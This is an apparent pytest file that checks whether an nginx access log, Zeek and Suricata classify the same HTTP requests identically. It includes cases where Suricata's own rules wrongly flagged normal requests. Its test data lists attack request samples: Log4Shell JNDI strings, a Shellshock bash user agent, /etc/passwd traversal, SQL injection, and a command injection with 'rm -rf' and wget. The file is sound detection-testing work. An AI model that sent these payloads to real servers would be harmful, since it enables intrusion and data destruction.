"""One HTTP request, one verdict, whichever sensor saw it: a web server's access log, Zeek's
http.log and Suricata's EVE http records are judged by the same rules and named the same.

Tester's report: Suricata judged requests by rules of its own (``http-secret-file-probe`` for
``/phpmyadmin`` answered 200, ``http-sql-injection`` for ``/music/sleep(deluxe).mp3``) where
the access log and Zeek, by the refined rules, saw a normal request; a member running
Suricata counted other attacks than one running nginx.
"""

from __future__ import annotations

import json

import pytest

from tests.unit.evidence.conformance import CTX, assert_accounted, records_of
from wuzhen.evidence import parsers
from wuzhen.evidence.parsers._base import Parser

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0"

# (method, target, status, user agent, referer, the verdict of all three)
REQUESTS = [
    ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.6%2Fa%7D", 400, BROWSER, "", "http:log4shell"),
    ("GET", "/", 200, BROWSER, "${jndi:ldap://198.51.100.6/a}", "http:log4shell"),
    ("GET", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c id", "", "http:shellshock"),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400, BROWSER, "", "http:path-traversal"),
    ("GET", "/p.php?id=1%20UNION%20SELECT%201,2", 200, BROWSER, "", "http:sql-injection"),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://a/b", 404, "Hello", "", "http:command-injection"),
    ("POST", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", 404, BROWSER, "", "http:phpunit-rce"),
    ("POST", "/GponForm/diag_Form?images/", 404, BROWSER, "", "http:iot-exploit"),
    ("POST", "/wp-login.php", 200, BROWSER, "", "http:wp-login-brute-force"),
    ("POST", "/wp-login.php", 302, BROWSER, "", "successful login (redirect after the login form)"),
    ("GET", "/.git/config", 200, BROWSER, "", "http:sensitive-file"),
    ("GET", "/phpmyadmin/", 404, BROWSER, "", "http:app-probe"),
    ("GET", "/old/backup.php", 404, BROWSER, "", "http:script-probe"),
    ("GET", "/", 200, "sqlmap/1.8#stable (https://sqlmap.org)", "", "http:scanner-ua"),
    # normal requests, which Suricata's own rules took for attacks
    ("GET", "/phpmyadmin/", 200, BROWSER, "", "normal HTTP request"),
    ("GET", "/music/sleep(deluxe).mp3", 200, BROWSER, "", "normal HTTP request"),
    ("GET", "/docs/wget http tutorial.html", 200, BROWSER, "", "normal HTTP request"),
    ("GET", "/missing-page", 404, BROWSER, "", "normal HTTP request"),
]


def _access_line(method: str, target: str, status: int, agent: str, referer: str) -> str:
    return (
        f'203.0.113.9 - - [28/Nov/2026:06:25:11 +0000] "{method} {target} HTTP/1.1" {status} '
        f'196 "{referer or "-"}" "{agent}"'
    )


def _zeek_line(method: str, target: str, status: int, agent: str, referer: str) -> str:
    record = {
        "ts": 1795846511.0,
        "uid": "Cx",
        "id.orig_h": "203.0.113.9",
        "id.orig_p": 40000,
        "id.resp_h": "192.0.2.10",
        "id.resp_p": 80,
        "method": method,
        "host": "www.example.org",
        "uri": target,
        "user_agent": agent,
        "status_code": status,
        **({"referrer": referer} if referer else {}),
    }
    return json.dumps(record)


def _eve_line(method: str, target: str, status: int, agent: str, referer: str) -> str:
    http = {
        "hostname": "www.example.org",
        "url": target,
        "http_user_agent": agent,
        "http_method": method,
        "protocol": "HTTP/1.1",
        "status": status,
        **({"http_refer": referer} if referer else {}),
    }
    record = {
        "timestamp": "2026-11-28T06:25:11.000000+0000",
        "event_type": "http",
        "src_ip": "203.0.113.9",
        "src_port": 40000,
        "dest_ip": "192.0.2.10",
        "dest_port": 80,
        "proto": "TCP",
        "http": http,
    }
    return json.dumps(record)


SENSORS = {
    "weblog": _access_line,
    "zeek-json": _zeek_line,
    "suricata-eve": _eve_line,
}


def _verdict(parser: Parser, line: str) -> tuple[str, str | None]:
    """The event's identifier and description, or the skip reason."""
    records = records_of([line])
    result = parser.parse(records, None, CTX)
    assert_accounted(records, result)
    assert result.rejects.height == 0, result.rejects["reason"].to_list()
    if result.events.height:
        row = result.events.row(0, named=True)
        return row["classification.identifier"], row["event_description.text"]
    return str(result.skipped["reason"][0]), None


@pytest.mark.parametrize("request_", REQUESTS, ids=lambda r: f"{r[0]} {r[1][:40]} {r[2]}")
def test_one_request_is_judged_alike_by_every_sensor(
    request_: tuple[str, str, int, str, str, str],
) -> None:
    *fields, expected = request_
    verdicts = {name: _verdict(parsers.get(name), make(*fields)) for name, make in SENSORS.items()}
    assert {name: v[0] for name, v in verdicts.items()} == dict.fromkeys(SENSORS, expected)
    descriptions = {v[1] for v in verdicts.values()}
    assert len(descriptions) == 1  # the same description (none for a skip)
    if expected.startswith("http:"):
        assert descriptions.pop()
